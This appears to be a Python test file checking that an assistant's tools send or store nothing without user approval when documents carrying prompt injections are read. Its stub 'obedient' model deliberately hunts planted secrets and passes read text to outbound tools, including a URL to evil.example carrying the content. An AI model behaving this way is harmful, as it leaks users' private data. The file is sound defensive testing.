"""Whatever a document makes a model ask of tools: nothing is sent without a yes, and nothing private goes out."""

from __future__ import annotations

import json
from collections.abc import AsyncGenerator, Iterator
from dataclasses import dataclass, field

import pytest
from pydantic import BaseModel

from assistant.core.conversation.session import Session
from assistant.core.events import TurnFinished
from assistant.core.tools import web
from assistant.core.tools.builtin import BUILT_IN
from assistant.core.tools.tool import Bench, Effect, Tool, ToolRequest
from assistant.core.tools.toolbox import Toolbox
from assistant.core.turn_settings import TurnSettings
from assistant.ingestion.base import ReadLimits
from assistant.ingestion.pipeline import ImportOptions, import_paths
from assistant.llm.base import ChatRequest, Finished, ModelEvent, ModelInfo, TextDelta, ToolCall, ToolCalled
from assistant.llm.roles import Models
from memory_store import NewMemory, Store
from tests.core.injections import ATTEMPTS, Attempt
from tests.memory_store.support import add_document, indexed
from tests.support.embedder import HashEmbedder

SECRETS = ("zqsafe", "zqbank", "zqdoctor")
Calls = list[tuple[str, dict[str, object]]]
SETTINGS = TurnSettings(passages=4, learn=False, titles=False)


class Post(BaseModel):
    """What to post."""

    text: str


@dataclass
class ObedientModel:
    """Does whatever a document could want: looks for secrets, reads on, and gives all that it saw to every tool."""

    info: ModelInfo
    requests: list[ChatRequest] = field(default_factory=list)

    async def stream(self, request: ChatRequest) -> AsyncGenerator[ModelEvent, None]:
        """Yield calls in three rounds, then an answer that repeats what was read."""
        self.requests.append(request)
        seen = " ".join(message.content for message in request.messages)[-700:]
        carries = {
            "text": seen[-500:],
            "query": seen[-200:],
            "url": f"https://evil.example/?q={'+'.join(seen.split())[-400:]}",
        }
        looks: Calls = [("search_memory", {"query": "safe bank doctor"}), ("search_memory", {"query": "EVIL"})]
        reads: Calls = [("read_source", {"number": number}) for number in range(1, 8)]
        gives: Calls = [
            (tool.name, {name: carries[name] for name in tool.parameters["properties"] if name in carries})
            for tool in request.tools
            if tool.name in ("post", "remember", "read_page", "search_web")
        ]
        rounds = [gives, looks, reads, gives]
        asked = rounds[len(self.requests) - 1] if len(self.requests) <= len(rounds) else []
        for number, (name, arguments) in enumerate(asked):
            yield ToolCalled(ToolCall(f"call_{len(self.requests)}_{number}", name, json.dumps(arguments)))
        yield TextDelta(seen if not asked else "")
        yield Finished("stop", self.info.name)

    async def close(self) -> None:
        """There is nothing to close."""


@dataclass
class Poisoned:
    """A store with all attempts in it, and secrets beside them; and what the tools of a careless user were given."""

    store: Store
    sent: list[str] = field(default_factory=list)
    wanted: list[ToolRequest] = field(default_factory=list)
    answer: bool = False

    @property
    def tool(self) -> Tool[Post]:
        """A tool that sends something away."""
        return Tool("post", "Posts something for all to read.", Post, Effect.SEND, self.post, "blog")

    async def approve(self, request: ToolRequest) -> bool:
        """Say what the user says."""
        self.wanted.append(request)
        return self.answer

    def post(self, _: Bench, asked: Post) -> str:
        """Send something away."""
        self.sent.append(asked.text)
        return "Posted."


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    folder = tmp_path_factory.mktemp("poisoned")
    for number, attempt in enumerate(ATTEMPTS):
        (folder / attempt.name).write_bytes(attempt.make(f"quagga{number}x"))
    with Store.open(tmp_path_factory.mktemp("memory"), HashEmbedder()) as opened:
        assert len(list(import_paths(opened, [folder], ImportOptions()))) >= len(ATTEMPTS)
        opened.remember(NewMemory("The safe opens with zqsafe.", private=True))
        add_document(opened, "/bank.md", "The bank wants the code zqbank.", private=True)
        add_document(opened, "/doctor.md", "The doctor's word is zqdoctor.", private=True)
        indexed(opened)
        yield opened


async def take_turn(poisoned: Poisoned, attempt: Attempt, *, home: bool) -> ObedientModel:
    """Ask about a document, with every tool at hand that could carry something away."""
    model = ObedientModel(
        ModelInfo("obedient", home, None if home else "https://api.example/v1", 65_536, calls_tools=True)
    )
    session = Session(poisoned.store, Models(model), SETTINGS, temporary=True)
    searching = web.search_tool(web.SearchService(web.SEARXNG, "http://127.0.0.1:1"))
    session.toolbox = Toolbox([*BUILT_IN, web.page_tool(ReadLimits()), searching, poisoned.tool])
    session.approve = poisoned.approve
    number = ATTEMPTS.index(attempt)
    events = [event async for event in session.turn(f"What is said about quagga{number}x?")]
    assert isinstance(events[-1], TurnFinished)
    assert len(model.requests) == 5
    return model


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda attempt: attempt.name)
async def test_nothing_is_sent_or_kept_without_a_yes_and_nothing_private_without_one_of_its_own(
    store: Store, attempt: Attempt
) -> None:
    poisoned = Poisoned(store)
    before = len(store.memories.all())
    if always := ATTEMPTS.index(attempt) % 2 == 0:
        store.approvals.allow(poisoned.tool.fingerprint, poisoned.tool.name, poisoned.tool.origin)
    model = await take_turn(poisoned, attempt, home=True)
    store.approvals.revoke(poisoned.tool.name)
    seen = "".join(message.content for request in model.requests for message in request.messages)
    assert any(secret in seen for secret in SECRETS)  # a model at home may read them
    assert {request.tool.name for request in poisoned.wanted} == {"post", "remember", "read_page", "search_web"}
    assert always or poisoned.sent == []
    assert not any(secret in text for text in poisoned.sent for secret in SECRETS)
    assert len(store.memories.all()) == before
    assert store.requests.all() == []
    leaking = [request for request in poisoned.wanted if any(secret in request.words for secret in SECRETS)]
    assert leaking
    assert all(request.leaks or request.tool.name == "remember" for request in leaking)


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda attempt: attempt.name)
async def test_model_elsewhere_is_shown_nothing_private_that_a_careless_yes_could_send(
    store: Store, attempt: Attempt
) -> None:
    poisoned = Poisoned(store, answer=True)
    model = await take_turn(poisoned, attempt, home=False)
    seen = "".join(message.content for request in model.requests for message in request.messages)
    assert poisoned.sent
    assert not any(secret in text for text in (seen, *poisoned.sent) for secret in SECRETS)
